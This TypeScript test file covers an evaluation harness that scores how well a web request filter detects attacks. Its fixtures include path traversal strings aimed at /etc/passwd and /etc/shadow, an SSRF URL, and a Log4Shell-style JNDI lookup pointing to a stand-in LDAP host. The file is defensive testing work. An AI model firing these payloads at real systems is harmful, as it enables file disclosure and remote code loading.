// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { parseCorpusLine } from "../src/eval/corpus.js";
import { evaluateCorpus } from "../src/eval/evaluate.js";
import { parseRawRequest } from "../src/eval/raw-http.js";
import { formatTable } from "../src/eval/report.js";

const dir = mkdtempSync(join(tmpdir(), "parapet-shield-eval-"));
after(() => rmSync(dir, { recursive: true, force: true }));

describe("eval corpus", () => {
  it("tries a payload in three places", () => {
    const parsed = parseCorpusLine('{"id":"1","source":"t","class":"traversal","attack":true,"payload":"../../etc/passwd"}');
    assert.ok(parsed.ok);
    assert.deepEqual(
      parsed.value.requests.map((r) => r.place),
      ["query", "form", "json"],
    );
  });

  it("reports bad lines instead of throwing", () => {
    assert.deepEqual(parseCorpusLine("{oops"), { ok: false, error: "not valid JSON" });
    assert.equal(parseCorpusLine("[1]").ok, false);
    assert.equal(parseCorpusLine('{"class":"xss"}').ok, false);
  });

  it("parses raw HTTP requests", () => {
    const parsed = parseRawRequest("POST /a?b=1 HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n\r\nhello");
    assert.ok(parsed.ok);
    assert.equal(parsed.request.method, "POST");
    assert.equal(parsed.request.url, "/a?b=1");
    assert.equal(parsed.request.body, "hello");
    assert.equal(parseRawRequest("garbage").ok, false);
  });

  it("scores a small corpus end to end", async () => {
    const file = join(dir, "mini.jsonl");
    const lines = [
      { id: "a1", source: "t", class: "traversal", attack: true, payload: "../../../etc/passwd" },
      {
        id: "a2",
        source: "t",
        class: "ssrf",
        attack: true,
        request: { method: "GET", url: "/?u=http://127.0.0.1/", headers: { Host: "x" }, body: null },
      },
      {
        id: "a3",
        source: "t",
        class: "jndi",
        attack: true,
        request: { raw: "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://e/a}\r\n\r\n" },
      },
      { id: "b1", source: "t", class: "benign", attack: false, payload: "drop me a line" },
      {
        id: "b2",
        source: "t",
        class: "benign",
        attack: false,
        request: { method: "GET", url: "/shop?item=12&q=blue+shoes", headers: {}, body: null },
      },
    ];
    writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join("\n")}\nnot json\n`);
    const invalid: number[] = [];
    const result = await evaluateCorpus(file, "medium", (line) => invalid.push(line));
    assert.deepEqual(invalid, [6]);
    assert.equal(result.classes.traversal?.detected, 1);
    assert.equal(result.classes.traversal?.places.json, 1);
    assert.equal(result.classes.ssrf?.detected, 1);
    assert.equal(result.classes.jndi?.sameClass, 1);
    assert.deepEqual({ total: result.benign.total, flagged: result.benign.flagged }, { total: 2, flagged: 0 });
  });

  it("scores each class per source and prints a line per source", async () => {
    const file = join(dir, "sources.jsonl");
    const lines = [
      { id: "s1", source: "lists", class: "traversal", attack: true, payload: "../../../etc/passwd" },
      { id: "s2", source: "lists", class: "traversal", attack: true, payload: "....//....//etc/shadow" },
      // A plain word labeled as an attack (as rule-set regression tests do for a lone fragment): missed.
      { id: "s3", source: "regression-tests", class: "traversal", attack: true, payload: "config" },
    ];
    writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join("\n")}\n`);
    const result = await evaluateCorpus(file, "medium", () => {});
    assert.deepEqual(result.classes.traversal?.bySource, {
      lists: { total: 2, detected: 2 },
      "regression-tests": { total: 1, detected: 0 },
    });
    const table = formatTable(result);
    assert.match(table, /^ {2}lists +2 +2 +100\.00%$/m);
    assert.match(table, /^ {2}regression-tests +1 +0 +0\.00%$/m);
  });
});
